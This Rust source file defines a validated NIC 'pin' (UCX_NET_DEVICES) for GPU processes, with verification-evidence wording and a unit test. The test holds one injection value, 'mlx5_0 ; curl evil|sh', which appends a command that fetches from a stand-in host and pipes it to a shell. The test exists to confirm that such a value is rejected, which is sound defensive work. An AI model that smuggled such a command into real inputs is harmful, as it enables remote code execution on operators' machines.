//! The NIC to pin a GPU's process to: a value, not text.
//!
//! The runbook tells operators to apply a pin as it is shown, and it becomes a metric label and
//! a Kubernetes condition's words; so a [`Pin`] exists only for a NIC that is a device name
//! (`[A-Za-z0-9_.:-]{1,64}`, the grammar ingest holds every NIC name to) and one of the NICs of
//! the node's own latest topology. Everything that shows it (the reasons, the API, the label,
//! the condition) is made from the value, with what it was verified by said alongside
//! ([`PinEvidence`]), never parsed back out of a sentence.

use std::fmt;

use railguard_schema::KvMemory;
use serde::Serialize;

use super::status::PinEvidence;

/// What a pin's sentence adds after it, if anything.
fn qualifier(e: PinEvidence) -> Option<&'static str> {
    match e {
        PinEvidence::GpuMemory => None,
        PinEvidence::HostMemory => Some("verified in host memory only: its GPU-memory path is unproven"),
        PinEvidence::Simulated => Some("verified on the simulated fabric, not on hardware"),
        PinEvidence::Unprobed => Some("not yet verified by a probe"),
    }
}

/// `UCX_NET_DEVICES=<nic>:1` for one GPU's process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pin {
    nic: String,
    pub evidence: PinEvidence,
    /// The memory the GPU's KV cache moves in: what "verified" must mean for it.
    kv: KvMemory,
}

impl Pin {
    /// The pin to `nic`, if `nic` is a device name and one of `node_nics` (the node's latest
    /// topology's NICs).
    pub fn new(nic: &str, evidence: PinEvidence, kv: KvMemory, node_nics: &[String]) -> Option<Pin> {
        (railguard_schema::convert::is_device_name(nic) && node_nics.iter().any(|n| n == nic)).then(|| Pin {
            nic: nic.to_owned(),
            evidence,
            kv,
        })
    }

    pub fn nic(&self) -> &str {
        &self.nic
    }

    /// The pinned NIC was verified on hardware in the memory the GPU's KV cache moves in (GPU
    /// memory, or host memory on a node without a GPUDirect path). A pin verified on the
    /// simulated fabric, in host memory only for a GPU-memory workload, or not at all, is not.
    pub fn verified(&self) -> bool {
        match self.evidence {
            PinEvidence::GpuMemory => true,
            PinEvidence::HostMemory => self.kv == KvMemory::Host,
            PinEvidence::Simulated | PinEvidence::Unprobed => false,
        }
    }
}

impl fmt::Display for Pin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "UCX_NET_DEVICES={}:1", self.nic)?;
        let q = match self.evidence {
            PinEvidence::HostMemory if self.kv == KvMemory::Host => None,
            e => qualifier(e),
        };
        if let Some(q) = q {
            write!(f, " ({q})")?;
        }
        Ok(())
    }
}

impl Serialize for Pin {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.collect_str(self)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pin_is_only_ever_one_of_the_node_s_own_nics() {
        let nics = vec!["mlx5_0".to_owned(), "mlx5_1".to_owned()];
        let gpu = KvMemory::Gpu;
        let p = Pin::new("mlx5_1", PinEvidence::GpuMemory, gpu, &nics).unwrap();
        assert_eq!(p.to_string(), "UCX_NET_DEVICES=mlx5_1:1");
        assert!(p.verified());
        let unprobed = Pin::new("mlx5_0", PinEvidence::Unprobed, gpu, &nics).unwrap();
        assert_eq!(unprobed.to_string(), "UCX_NET_DEVICES=mlx5_0:1 (not yet verified by a probe)");
        assert!(!unprobed.verified());
        // Host memory verifies a pin only where host memory is the KV cache's path.
        let host_only = Pin::new("mlx5_0", PinEvidence::HostMemory, gpu, &nics).unwrap();
        assert!(!host_only.verified());
        assert!(host_only.to_string().contains("its GPU-memory path is unproven"), "{host_only}");
        let host_node = Pin::new("mlx5_0", PinEvidence::HostMemory, KvMemory::Host, &nics).unwrap();
        assert!(host_node.verified());
        assert_eq!(host_node.to_string(), "UCX_NET_DEVICES=mlx5_0:1");
        assert!(!Pin::new("mlx5_0", PinEvidence::Simulated, gpu, &nics).unwrap().verified(), "no hardware");
        // Not the node's, or not a device name at all (even if the topology said so).
        assert!(Pin::new("mlx5_7", PinEvidence::GpuMemory, gpu, &nics).is_none());
        let odd = vec!["mlx5_0 ; curl evil|sh".to_owned()];
        assert!(Pin::new("mlx5_0 ; curl evil|sh", PinEvidence::GpuMemory, gpu, &odd).is_none());
        assert!(Pin::new("", PinEvidence::GpuMemory, gpu, &[String::new()]).is_none());
    }
}
